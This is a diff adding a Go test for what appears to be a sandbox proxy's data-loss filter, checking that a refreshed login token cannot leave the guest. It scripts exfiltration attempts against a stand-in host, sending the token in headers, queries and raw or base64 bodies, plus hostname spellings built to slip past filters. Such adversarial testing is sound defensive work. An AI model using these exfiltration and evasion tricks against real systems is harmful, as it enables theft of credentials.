@@ -1,0 +1,109 @@
+package netfilter
+
+import (
+	"encoding/base64"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/vibedom/vibedom/credentials"
+	"github.com/vibedom/vibedom/dlp"
+)
+
+// TestLoginSwapAdversarial (issue 21, adversarial): a guest that holds a
+// real token the host refreshed mid-session (the DLP's known values, fixed
+// at the start, do not hold it) cannot send it anywhere: not in a header,
+// the URL or a body (raw or base64), to another host or to the API host;
+// and a request to the token endpoint host spelled with a trailing dot or
+// in another case is answered by vibedom, never forwarded. Both engines.
+func TestLoginSwapAdversarial(t *testing.T) {
+	t.Parallel()
+	real1 := "sk-ant-oat01-" + strings.Repeat("Rea1", 20) + "AA" // gitleaks:allow
+	// An opaque token no recognizer knows (a vendor may change its shape).
+	real2 := "vQ" + strings.Repeat("rEa2tOkN", 10) + "x9"      // gitleaks:allow
+	ph := "sk-ant-oat01-" + strings.Repeat("PhAc", 20) + "BB"  // gitleaks:allow
+	rph := "sk-ant-ort01-" + strings.Repeat("PhRe", 20) + "BB" // gitleaks:allow
+	forEngines(t, func(t *testing.T, kind string) {
+		cred := &fakeLogin{real: []string{real1}, access: []string{ph}, refresh: rph}
+		eng, err := dlp.New(dlp.Config{Secrets: []dlp.Secret{{Value: real1, Source: "login"}, {Value: ph, Source: "placeholder"}}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		filter := NewSwapFilter(&DLPFilter{Engine: eng}, []credentials.Swap{{Name: "claude login", Host: "api.test", Header: "authorization", Dynamic: cred}})
+		v := newEngineEnv(t, kind, testRules, func(c *EngineConfig) { c.Filter = filter })
+		var mu sync.Mutex
+		var leaked []string
+		var tokenHits int
+		record := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			b, _ := io.ReadAll(r.Body)
+			var all strings.Builder
+			all.WriteString(r.URL.String())
+			for n, vs := range r.Header {
+				if n == "Authorization" && r.Host == "api.test" {
+					continue // where the swap puts it
+				}
+				all.WriteString(n + ": " + strings.Join(vs, ",") + "\n")
+			}
+			all.Write(b)
+			mu.Lock()
+			if s := all.String(); strings.Contains(s, real2) || strings.Contains(s, base64.StdEncoding.EncodeToString([]byte(real2))) {
+				leaked = append(leaked, r.Host+r.URL.Path)
+			}
+			mu.Unlock()
+		})
+		v.upstreamTLS("api.test", 443, v.upCA, record)
+		v.upstreamTLS("x.wild.test", 443, v.upCA, record)
+		v.upstreamTLS("token.wild.test", 443, v.upCA, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			mu.Lock()
+			tokenHits++
+			mu.Unlock()
+		}))
+		cred.mu.Lock()
+		cred.real = append(cred.real, real2) // the host refreshed
+		cred.mu.Unlock()
+		c := &http.Client{Transport: v.guestTransport(false)}
+		b64 := base64.StdEncoding.EncodeToString([]byte(real2))
+		for _, r := range []struct{ name, url, hdr, body string }{
+			{"in a header to another host", "https://x.wild.test/h", "X-Leak: " + real2, "{}"},
+			{"in a query to another host", "https://x.wild.test/q?t=" + url.QueryEscape(real2), "", "{}"},
+			{"in a body to another host", "https://x.wild.test/b", "", `{"t":"` + real2 + `"}`},
+			{"base64 in a body to another host", "https://x.wild.test/b64", "", `{"t":"` + b64 + `"}`},
+			{"in a body to the API host", "https://api.test/v1/messages", "", `{"t":"` + real2 + `"}`},
+		} {
+			req, _ := http.NewRequestWithContext(t.Context(), "POST", r.url, strings.NewReader(r.body))
+			req.Header.Set("Content-Type", "application/json")
+			if r.hdr != "" {
+				n, val, _ := strings.Cut(r.hdr, ": ")
+				req.Header.Set(n, val)
+			}
+			if strings.HasPrefix(r.url, "https://api.test/") {
+				req.Header.Set("Authorization", "Bearer "+ph)
+			}
+			resp, err := c.Do(req)
+			if err != nil {
+				continue // refused: fine
+			}
+			io.Copy(io.Discard, resp.Body)
+			resp.Body.Close()
+		}
+		for _, host := range []string{"token.wild.test.", "TOKEN.Wild.Test"} {
+			req, _ := http.NewRequestWithContext(t.Context(), "POST", "https://"+host+"/v1/oauth/token",
+				strings.NewReader(`{"grant_type":"refresh_token","refresh_token":"`+rph+`"}`))
+			if resp, err := c.Do(req); err == nil {
+				io.Copy(io.Discard, resp.Body)
+				resp.Body.Close()
+			}
+		}
+		mu.Lock()
+		defer mu.Unlock()
+		if len(leaked) > 0 {
+			t.Errorf("the refreshed real token reached upstream at %q", leaked)
+		}
+		if tokenHits != 0 {
+			t.Errorf("the token endpoint host was reached %d times from the guest", tokenHits)
+		}
+	})
+}
